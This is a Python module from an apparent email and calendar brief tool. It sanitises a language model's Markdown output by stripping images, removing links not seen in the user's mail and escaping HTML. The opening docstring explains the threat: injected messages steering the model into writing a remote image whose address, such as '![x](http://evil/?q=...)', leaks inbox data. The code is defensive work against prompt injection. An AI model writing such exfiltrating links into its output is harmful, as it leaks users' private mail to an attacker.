"""The brief as a file or a mail may carry it: the model's Markdown made inert.

The model's text is not trusted: a message can make it write anything, and a notes app (or a
mail reader) renders what a sink writes. So before a brief leaves for a file or a mail:

- control characters, bidi overrides and zero-width marks become visible escapes, exactly as
  on stdout (`printable.plain`); line ends become `\\n`;
- images become their alt text, always: a remote image is fetched when the note is rendered,
  and its address can carry inbox data (`![x](http://evil/?q=...)`), reference-style and HTML
  images included;
- a link is kept only when its address appears in the mail or calendar the run read
  (`dayflow.shown`); any other link becomes its text, a reference definition to another
  address is dropped, and a bare or angle-bracket address becomes `(link removed)`;
- raw HTML is escaped (`&lt;script>`, an entity: a backslash before it could be escaped in
  turn), so no tag, comment or section mark reaches the renderer.

The result depends only on the text and the run's committed reads, so a redone delivery
writes the same bytes.

`link_pieces` is the same judgement for the HTML page (`dayflow.page`): a text cut into plain
pieces and the links the run read, for a template engine to escape; any other address is
`(link removed)`, since a mail reader makes a link of a bare address in HTML too.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from dayflow.printable import plain

REMOVED = "(link removed)"
# A placeholder for a construct already judged: NUL never survives `plain`, so it cannot be
# forged by the text.
_HOLD = "\x00{}\x00"
_HELD = re.compile(r"\x00(\d+)\x00")
_REF_DEF = re.compile(r"(?m)^ {0,3}\[[^\]\n]+\]:[ \t]*<?([^\s>]+)>?[^\n]*$")
_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\([^)\n]*\)|\[[^\]\n]*\])?")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^\s)>]*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_EMAIL_AUTOLINK = re.compile(r"<([^\s<>@]+@[^\s<>@]+)>")
# A bare address ends where `shown.urls_in` ends one (before a ")" or "]"), so that "(see
# https://x/y)" keeps the address the run read and its closing parenthesis.
_BARE = re.compile(r"(?i)\b(?:(?:https?|ftp|file|data|javascript):|www\.)[^\s<>\"'`)\]]*")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_TRAILING = ".,;:!?*_~"


def inert_markdown(text: str, links: frozenset[str] = frozenset()) -> str:
    """`text` safe to write where Markdown or HTML is rendered; `links` are the addresses
    the run read in the user's own mail and calendar, the only ones kept as links."""
    held: list[str] = []

    def hold(value: str) -> str:
        held.append(value)
        return _HOLD.format(len(held) - 1)

    out = plain(text.replace("\r\n", "\n").replace("\r", "\n"))
    out = _REF_DEF.sub(lambda m: m.group(0) if m.group(1) in links else "", out)
    out = _IMAGE.sub(lambda m: m.group(1).strip(), out)
    out = out.replace("![", "!\\[")  # whatever the image syntax, no image is left
    out = _LINK.sub(lambda m: hold(m.group(0)) if m.group(2) in links else m.group(1), out)
    out = _AUTOLINK.sub(lambda m: hold(m.group(0)) if m.group(1) in links else REMOVED, out)
    out = _EMAIL_AUTOLINK.sub(lambda m: m.group(1), out)
    out = _BARE.sub(_bare(links, hold), out)
    out = _TAG_START.sub("&lt;", out)
    return _HELD.sub(lambda m: held[int(m.group(1))], out)


def _bare(links: frozenset[str], hold: Callable[[str], str]) -> Callable[[re.Match[str]], str]:
    def judge(match: re.Match[str]) -> str:
        found = match.group(0)
        url = found.rstrip(_TRAILING)
        rest = found[len(url) :]
        return (hold(url) if url in links else REMOVED) + rest

    return judge


def link_pieces(text: str, links: frozenset[str] = frozenset()) -> list[tuple[str, str | None]]:
    """`text` (made `plain`) as (piece, address) pairs: an address is a link only when it is
    in `links` (the addresses the run read), and each other address the text holds, whatever
    its scheme (`javascript:`, `data:`, `www.`...), becomes `(link removed)` in its piece."""
    out: list[tuple[str, str | None]] = []
    rest = plain(text)
    at = 0
    for match in _BARE.finditer(rest):
        found = match.group(0)
        url = found.rstrip(_TRAILING)
        before = rest[at : match.start()]
        if url in links:
            out += [(before, None), (url, url)]
        else:
            out.append((before + REMOVED, None))
        at = match.start() + len(url)
    out.append((rest[at:], None))
    merged: list[tuple[str, str | None]] = []
    for piece, href in out:
        if merged and href is None and merged[-1][1] is None:
            merged[-1] = (merged[-1][0] + piece, None)
        elif piece:
            merged.append((piece, href))
    return merged
